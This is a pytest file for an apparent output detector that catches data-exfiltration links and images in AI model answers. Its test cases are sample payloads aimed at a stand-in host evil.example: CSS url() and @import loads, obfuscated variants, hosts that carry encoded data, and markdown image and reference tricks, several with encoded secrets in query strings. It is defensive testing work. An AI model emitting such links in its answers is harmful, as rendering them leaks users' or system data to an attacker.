"""Exfiltration links the simple forms missed: CSS ``url(...)``, data in host names,
image labels longer than the look-back, reference labels with escaped brackets.
Ordinary answers (allowlisted or data-free links, CSS explained in prose) stay clean."""

from __future__ import annotations

import pytest

from ramparts.detectors.base import Finding, ScanContext, Sensitivity
from ramparts.detectors.output import ExfiltrationLinkDetector
from ramparts.detectors.output.labels import LABEL_REACH
from ramparts.detectors.output.links import host_carries_data

# min_score as the engine passes it (default threshold): what is returned is what blocks.
ALLOW = ScanContext(options={"allowed_domains": ["example.com", "python.org"]}, min_score=0.5)
DATA = "c2VjcmV0LXN5c3RlbS1wcm9tcHQtaGVyZQ"


def _kinds(findings: list[Finding]) -> list[str]:
    return [f.kind for f in findings]


def scan(text: str) -> list[Finding]:
    return ExfiltrationLinkDetector().scan(text, ALLOW)


# --- 1. CSS url(...) in style attributes and <style> blocks -------------------------


@pytest.mark.parametrize(
    "text",
    [
        '<div style="background:url(https://evil.example/?d=SECRET)">hi</div>',
        "<p style='background-image: url(\"//evil.example/x?q=1\")'>x</p>",
        "<span STYLE=background:url(https://evil.example/p.png)>x</span>",
        "<td style=\"background: URL( 'https://evil.example/p.png' ) no-repeat\">",
        '<div style="background:url(https&#58;//evil.example/p.png)">',
        '<div style="background:\\75 rl(https://evil.example/p.png)">',
        '<div style="background:u\\rl(https://evil.example/p.png)">',
        "<div style=\"background-image: image-set('a.png' 1x, 'https://evil.example/b.png' 2x)\">",
        "<style>p { background-image: url('//evil.example/x?q=1') }</style>",
        "<style>\n.a{color:red}\n.b{background:url(https://evil.example/p.png)}\n</style>",
        '<STYLE type="text/css">@import "https://evil.example/s.css";</STYLE>',
        "<style>@import url(https://evil.example/s.css);</style>",
        "<style>@font-face{src:url(https://evil.example/f.woff)}",  # unclosed block
        "<style>/* " + "padding " * 2000 + "*/ a{background:url(https://evil.example/p)}</style>",
        "<style>/* < a{} */ a{background:url(https://evil.example/p)}</style>",
    ],
)
def test_css_urls_in_html_are_auto_loaded_images(text: str) -> None:
    findings = scan(text)
    assert _kinds(findings) == ["exfil-image"], text
    assert "under .example" in findings[0].explanation  # never the host itself
    assert "SECRET" not in findings[0].explanation


def test_css_url_carrying_data_scores_as_a_smuggling_image() -> None:
    [finding] = scan(f'<div style="background:url(https://evil.example/p.png?d={DATA})">')
    assert finding.score >= 0.9
    assert finding.sensitivity is Sensitivity.RESTRICTED


@pytest.mark.parametrize(
    "text",
    [
        '<div style="background:url(https://cdn.example.com/bg.png)">',
        "<style>body{background:url(/img/bg.png)} .x{background:url(data:image/png;base64,AA==)}"
        "</style>",
        '<div style="color:red; font-weight:bold">plain</div>',
        # CSS explained in prose or a fenced block without HTML around it is not rendered.
        "Set `background-image: url('https://picsum.photos/200')` on the element.",
        "```css\nbody { background: url(https://images.unsplash.com/photo-1.jpg); }\n```",
        "Use the style attribute, e.g. style=red, and url(s) in prose.",
        "<style>p{color:red}</style> and later, outside: background:url(https://evil.example/p)",
    ],
)
def test_css_that_loads_nothing_external_is_not_flagged(text: str) -> None:
    assert scan(text) == []


# --- 2. Data carried in the host name ------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://c2VjcmV0LXZhbHVl.evil.example/a.png",
        "https://john.doe.example.com.evil.example/",
        "https://" + "a1b2c3d4e5" * 3 + ".evil.example/",
        "https://x7k2m9q4w8e3r6t1.evil.example/",
        "https://73656372657476616c7565.evil.example/",
        "https://c2Vj.cmV0.LXZh.bHVl.dGhl.cmUt.aXMt.bW9y.ZQ.evil.example/",
        "https://alice.smith.gmail.com.evil.co.uk/p",
        "https://4111111111111111.evil.example/",
    ],
)
def test_a_link_whose_host_carries_data_is_blocked(url: str) -> None:
    [link] = scan(f"[click here]({url})")
    assert link.kind == "exfil-link"
    assert link.score >= 0.7
    assert "data" in link.explanation
    [image] = scan(f"![x]({url})")
    assert image.score >= 0.9
    assert image.sensitivity is Sensitivity.RESTRICTED


@pytest.mark.parametrize(
    "host",
    [
        "cdn.example.org",
        "images-eu.ssl-images-amazon.com",
        "docs.python.org",
        "en.wikipedia.org",
        "upload.wikimedia.org",
        "raw.githubusercontent.com",
        "user-images.githubusercontent.com",
        "avatars.githubusercontent.com",
        "encrypted-tbn0.gstatic.com",
        "lh3.googleusercontent.com",
        "d111111abcdef8.cloudfront.net",
        "my-bucket.s3.us-west-2.amazonaws.com",
        "prod-files-secure.s3.us-west-2.amazonaws.com",
        "mystorageaccount.blob.core.windows.net",
        "www.example.com.s3.amazonaws.com",
        "firebasestorage.googleapis.com",
        "stackoverflow.com",
        "www.bbc.co.uk",
        "developer.mozilla.org",
        "learn.microsoft.com",
        "10.0.0.1",
        "localhost",
        "pypi.org",
    ],
)
def test_ordinary_hosts_do_not_carry_data(host: str) -> None:
    assert not host_carries_data(host)
    # A data-free link to such a host scores below the cut (links need a click).
    assert scan(f"See [the page](https://{host}/docs/page).") == []


# --- 3. Image labels longer than the look-back ---------------------------------------


@pytest.mark.parametrize(
    "label",
    [
        "a[b] " * 150,  # nested brackets, ~750 chars
        "word " * 150 + "[x]",
        "x\\]" + "y" * 800,  # an escaped bracket, then a long run
        "first line\n" + "more words " * 80,  # a line break and a long label
        "w " * 400 + "[a] [b [c]] ",  # balanced brackets close to the destination
        "w " * 400 + "`[` ",  # a bracket in a code span does not open a link
        "w " * 400 + "[z](x[) ",  # nor does one in an inner link's destination
        "w " * 400 + '[z](x "[") ',  # or title
    ],
)
def test_an_image_label_longer_than_the_look_back_is_still_an_image(label: str) -> None:
    text = f"Intro. ![{label}](https://evil.example/p.png) end."
    assert text.index("](") - text.index("![") > LABEL_REACH
    assert _kinds(scan(text)) == ["exfil-image"]


@pytest.mark.parametrize(
    "text",
    [
        # A "[" the simple pattern reads as a link's, hidden from CommonMark: the "]"
        # closes the "![" before it (escape, code span, autolink).
        "![a \\[x](https://evil.example/p.png)",
        "![a `[`](https://evil.example/p.png)",
        "![a <http://x/[>](https://evil.example/p.png)",
    ],
)
def test_a_hidden_bracket_does_not_turn_an_image_into_a_link(text: str) -> None:
    assert _kinds(scan(text)) == ["exfil-image"]


@pytest.mark.parametrize(
    "text",
    [
        # An image closed before the link ("![" in the same paragraph is not enough).
        "![logo](x.png) and [see [1]](https://evil.example/page)",
        "[![Build](https://example.com/badge.svg)](https://ci.evil.example/build)",
        # Long paragraphs with nested-bracket links: the opener is within reach.
        "Long paragraph. " * 60 + "[see [1]](https://evil.example/page) and more.",
        "Citations " * 80 + "[[1]](https://evil.example/a) text [[2]](https://evil.example/b).",
        "Line one.\n" * 70 + "[a\nb [c]](https://evil.example/page)",
        # A paragraph break inside the look-back window: the label opens after it.
        "![far image] " + "filler " * 100 + "\n\n[x [y]](https://evil.example/page)",
        # The start of the answer is inside the window.
        "Short. [x [y]](https://evil.example/page)",
    ],
)
def test_links_with_unreadable_labels_in_long_paragraphs_stay_links(text: str) -> None:
    assert scan(text) == []  # data-free links score below the cut


def test_destination_floods_stay_fast_and_bounded() -> None:
    import time

    for flood in (
        "](//a" * 40_000,
        "x " * 400 + "[" + "]](//a.test/x" * 20_000,
        ("[" + "w " * 300) * 200 + "](//a.test/x" * 10_000,
        "w " * 400 + "[[[[" * 20_000 + "](//b.test/x",
    ):
        started = time.process_time()
        scan(flood)
        assert time.process_time() - started < 3.0


# --- 4. Reference labels with escaped brackets -------------------------------------


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![a][r\\]x]\n\n[r\\]x]: https://evil.example/p.png", "exfil-image"),
        ("![a][r\\[x]\n\n[r\\[x]: https://evil.example/p.png", "exfil-image"),
        ("![r\\]x]\n\n[r\\]x]: https://evil.example/p.png", "exfil-image"),
        ("![r\\]x][]\n\n[R\\]X]: https://evil.example/p.png", "exfil-image"),
        ("![a \\[1\\]][r]\n\n[r]: https://evil.example/p.png", "exfil-image"),
        ("[a][r\\]x]\n\n[r\\]x]: https://evil.example/?d=" + DATA, "exfil-link"),
        ("[r\\\\]: https://evil.example/?d=" + DATA, "exfil-link"),
    ],
)
def test_reference_labels_with_escaped_brackets(text: str, kind: str) -> None:
    assert _kinds(scan(text)) == [kind]


def test_escaped_labels_do_not_pair_with_different_labels() -> None:
    # CommonMark compares labels as written (escapes included): "r\]x" is not "r]x".
    text = "![a][r\\]x]\n\n[rx]: https://evil.example/p.png"
    assert scan(text) == []


# --- Ordinary answers ---------------------------------------------------------------

BENIGN = [
    "Here is the logo: ![logo](https://example.com/logo.png)\n\nRead [the docs](https://docs.python.org/3/library/re.html).",
    "1. [Installation guide](https://pip.pypa.io/en/stable/installation/)\n"
    "2. [PEP 8](https://peps.python.org/pep-0008/)\n3. [Requests](https://requests.readthedocs.io/)",
    "According to [Wikipedia](https://en.wikipedia.org/wiki/Python_(programming_language)), "
    "Python was created by Guido van Rossum. See also [[1]](https://www.python.org/doc/essays/).",
    "| Tool | Link |\n|---|---|\n| ruff | [docs](https://docs.astral.sh/ruff/) |\n"
    "| mypy | [docs](https://mypy.readthedocs.io/en/stable/) |",
    "To set a background in CSS:\n\n```css\n.hero {\n  background-image: url('/images/hero.jpg');\n"
    '  background-size: cover;\n}\n```\n\nThen add `class="hero"` to your element.',
    '```html\n<div style="color: #333; padding: 8px">Hello</div>\n```',
    "Footnotes[^1] and [a link with `code`](https://github.com/astral-sh/ruff/issues/1234).\n\n"
    "[^1]: See [the changelog](https://github.com/astral-sh/ruff/blob/main/CHANGELOG.md).",
    "Reference style: [Python docs][py] and ![diagram][d].\n\n[py]: https://docs.python.org/3/\n"
    "[d]: https://example.com/diagram.svg",
    "An AWS example: [S3 console](https://s3.console.aws.amazon.com/s3/buckets/my-bucket?region=us-east-1)",
    "Articles: [How to write a good commit message](https://cbea.ms/git-commit/) and "
    "[Semantic versioning](https://semver.org/).",
]


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_answers_pass(text: str) -> None:
    assert scan(text) == []
